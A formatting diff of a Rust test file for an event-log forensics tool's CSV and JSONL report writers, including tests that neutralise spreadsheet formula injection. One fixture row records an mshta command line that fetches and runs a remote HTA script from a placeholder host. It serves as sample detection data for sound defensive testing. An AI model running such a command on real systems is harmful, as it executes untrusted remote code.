@@ -23,13 +23,15 @@ fn parsed(bytes: &[u8]) -> (Vec<String>, Rows) {
 
 fn timeline(outcome: &Outcome, options: CsvOptions) -> (Vec<u8>, u64) {
     let mut bytes = Vec::new();
-    let neutralised = evql::report::csv::write_timeline(outcome, options, &mut bytes).expect("a Vec takes every write");
+    let neutralised =
+        evql::report::csv::write_timeline(outcome, options, &mut bytes).expect("a Vec takes every write");
     (bytes, neutralised)
 }
 
 fn findings(outcome: &Outcome) -> Vec<u8> {
     let mut bytes = Vec::new();
-    evql::report::csv::write_findings(outcome, CsvOptions::default(), &mut bytes).expect("a Vec takes every write");
+    evql::report::csv::write_findings(outcome, CsvOptions::default(), &mut bytes)
+        .expect("a Vec takes every write");
     bytes
 }
 
@@ -65,12 +67,18 @@ fn headers_are_a_contract_that_schema_numbers() {
 #[test]
 fn a_connection_row_holds_the_facts_of_its_process_and_of_itself() {
     let (header, rows) = parsed(&timeline(&support::plain(), CsvOptions::default()).0);
-    let row = rows.iter().find(|row| column(&header, row, "record_id") == "16004").expect("the connection of finding 1");
+    let row = rows
+        .iter()
+        .find(|row| column(&header, row, "record_id") == "16004")
+        .expect("the connection of finding 1");
     for (name, value) in [
         ("datetime", "2024-03-01T10:01:02.406000+00:00"),
         ("created", "2024-03-01T10:01:02.408000+00:00"),
         ("timestamp_desc", "Network connection"),
-        ("message", "[high] mshta.exe on WS01 (CORP\\anna) connected to 203.0.113.2:443, 1.406 s after the first event [record 16004, finding f-0000000000]"),
+        (
+            "message",
+            "[high] mshta.exe on WS01 (CORP\\anna) connected to 203.0.113.2:443, 1.406 s after the first event [record 16004, finding f-0000000000]",
+        ),
         ("host", "WS01"),
         ("command_line", "C:\\Windows\\System32\\mshta.exe http://update.example/a1.hta --quiet"),
         ("parent_image", "C:\\Windows\\explorer.exe"),
@@ -93,11 +101,16 @@ fn a_connection_row_holds_the_facts_of_its_process_and_of_itself() {
 #[test]
 fn rows_are_sorted_and_every_message_differs() {
     let (header, rows) = parsed(&timeline(&support::large(500, 9), CsvOptions::default()).0);
-    let key = |row: &Vec<String>| (column(&header, row, "datetime").to_owned(), column(&header, row, "host").to_owned());
+    let key = |row: &Vec<String>| {
+        (column(&header, row, "datetime").to_owned(), column(&header, row, "host").to_owned())
+    };
     assert!(rows.iter().map(key).is_sorted());
     let messages: BTreeSet<_> = rows.iter().map(|row| column(&header, row, "message")).collect();
     assert_eq!(messages.len(), rows.len());
-    assert!(rows.iter().all(|row| column(&header, row, "datetime").len() == "2024-03-01T10:00:00.123000+00:00".len()));
+    assert!(
+        rows.iter()
+            .all(|row| column(&header, row, "datetime").len() == "2024-03-01T10:00:00.123000+00:00".len())
+    );
 }
 
 #[test]
@@ -114,7 +127,10 @@ fn hostile_cells_stay_cells() {
         assert!(cell.len() < 9_000);
         marked += u64::from(cell.starts_with("'=") || cell.starts_with("'@") || cell.starts_with("'\" on"));
     }
-    assert!(neutralised > 0 && neutralised >= marked.saturating_sub(rows.len() as u64), "{neutralised} counted, {marked} seen");
+    assert!(
+        neutralised > 0 && neutralised >= marked.saturating_sub(rows.len() as u64),
+        "{neutralised} counted, {marked} seen"
+    );
     let flagged = rows.iter().filter(|row| column(&header, row, "flags") == "cell_neutralised").count();
     assert!(flagged >= 4, "both events of both formula findings carry the flag");
     let (raw, none) = timeline(&outcome, CsvOptions { raw: true, bom: false });
@@ -130,7 +146,9 @@ fn messages_are_short_whatever_the_fields_hold() {
     for line in String::from_utf8(lines).expect("UTF-8").lines() {
         let line: Value = serde_json::from_str(line).expect("JSON");
         assert!(line["message"].as_str().expect("a message").len() < 300);
-        assert!(line["timestamp"].is_i64() && line["datetime"].is_string() && line["timestamp_desc"].is_string());
+        assert!(
+            line["timestamp"].is_i64() && line["datetime"].is_string() && line["timestamp_desc"].is_string()
+        );
     }
     assert!(rows.iter().all(|row| !column(&header, row, "message").is_empty()));
 }
@@ -146,7 +164,8 @@ fn a_byte_order_mark_only_when_asked() {
 #[test]
 fn a_finding_is_one_object_with_its_events_in_order() {
     let mut bytes = Vec::new();
-    write_stream(Format::Jsonl, &support::plain(), &support::run(), &Options::default(), &mut bytes).expect("written");
+    write_stream(Format::Jsonl, &support::plain(), &support::run(), &Options::default(), &mut bytes)
+        .expect("written");
     let text = String::from_utf8(bytes).expect("UTF-8");
     let lines: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
     assert_eq!(lines.len(), 6);
@@ -154,7 +173,21 @@ fn a_finding_is_one_object_with_its_events_in_order() {
     let keys: Vec<_> = first.as_object().expect("an object").keys().map(String::as_str).collect();
     assert_eq!(
         keys,
-        ["schema", "finding_id", "rule", "severity", "risk_score", "host", "user", "process", "clock", "delta_ms", "threat", "notes", "events"]
+        [
+            "schema",
+            "finding_id",
+            "rule",
+            "severity",
+            "risk_score",
+            "host",
+            "user",
+            "process",
+            "clock",
+            "delta_ms",
+            "threat",
+            "notes",
+            "events"
+        ]
     );
     assert_eq!(first["process"]["parent"]["name"], "explorer.exe");
     assert_eq!(first["process"]["pid"], 4243);
@@ -178,7 +211,10 @@ fn json_keeps_hostile_text_whole() {
         let object = evql::report::jsonl::finding_object(finding);
         assert_eq!(object["process"]["command_line"], *attack);
         assert_eq!(object["events"][0]["winlog"]["computer_name"], *attack);
-        assert_eq!(object["events"][0]["winlog"]["record_id"], finding.events[0].as_ref().map(|e| e.record_id.to_string()).unwrap_or_default());
+        assert_eq!(
+            object["events"][0]["winlog"]["record_id"],
+            finding.events[0].as_ref().map(|e| e.record_id.to_string()).unwrap_or_default()
+        );
     }
     let long = evql::report::jsonl::finding_object(&outcome.findings[support::ATTACKS.len()]);
     assert_eq!(long["process"]["command_line"].as_str().map(str::len), Some(3 + 3 * 350_000));
@@ -189,13 +225,21 @@ fn a_folder_is_complete_hashed_and_never_overwritten_unasked() {
     let folder = support::fresh_folder("report-plain");
     let (outcome, run, options) = (support::plain(), support::run(), Options::default());
     let written = write_folder(&folder, &Format::ALL, &outcome, &run, &options).expect("written");
-    let mut names: Vec<_> = written.files.iter().map(|path| path.file_name().expect("a name").to_string_lossy().into_owned()).collect();
+    let mut names: Vec<_> = written
+        .files
+        .iter()
+        .map(|path| path.file_name().expect("a name").to_string_lossy().into_owned())
+        .collect();
     assert_eq!(names.last().map(String::as_str), Some("run.json"));
     names.sort();
-    let mut found: Vec<_> = std::fs::read_dir(&folder).expect("a folder").map(|entry| entry.expect("an entry").file_name().to_string_lossy().into_owned()).collect();
+    let mut found: Vec<_> = std::fs::read_dir(&folder)
+        .expect("a folder")
+        .map(|entry| entry.expect("an entry").file_name().to_string_lossy().into_owned())
+        .collect();
     found.sort();
     assert_eq!(found, names, "nothing else is left behind");
-    let record: Value = serde_json::from_slice(&std::fs::read(folder.join("run.json")).expect("read")).expect("JSON");
+    let record: Value =
+        serde_json::from_slice(&std::fs::read(folder.join("run.json")).expect("read")).expect("JSON");
     for output in record["outputs"].as_array().expect("a list") {
         use sha2::Digest;
         let bytes = std::fs::read(folder.join(output["name"].as_str().expect("a name"))).expect("read");
@@ -214,9 +258,13 @@ fn a_folder_is_complete_hashed_and_never_overwritten_unasked() {
 #[test]
 fn evidence_and_problems_are_tables_too() {
     let mut bytes = Vec::new();
-    evql::report::csv::write_evidence(&support::hostile(), CsvOptions::default(), &mut bytes).expect("written");
+    evql::report::csv::write_evidence(&support::hostile(), CsvOptions::default(), &mut bytes)
+        .expect("written");
     let (header, rows) = parsed(&bytes);
-    assert_eq!(header.join(","), "source,size,modified,sha256,status,chunks,records,sysmon_records,first,last,problems");
+    assert_eq!(
+        header.join(","),
+        "source,size,modified,sha256,status,chunks,records,sysmon_records,first,last,problems"
+    );
     assert_eq!((rows.len(), column(&header, &rows[3], "first")), (6, ""));
     bytes.clear();
     evql::report::csv::write_problems(&support::plain(), CsvOptions::default(), &mut bytes).expect("written");
@@ -228,5 +276,6 @@ fn evidence_and_problems_are_tables_too() {
 #[test]
 fn hostile_results_are_left_for_pandas_to_read() {
     let folder = support::fresh_folder("report-hostile");
-    write_folder(&folder, &Format::ALL, &support::hostile(), &support::hostile_run(), &Options::default()).expect("written");
+    write_folder(&folder, &Format::ALL, &support::hostile(), &support::hostile_run(), &Options::default())
+        .expect("written");
 }
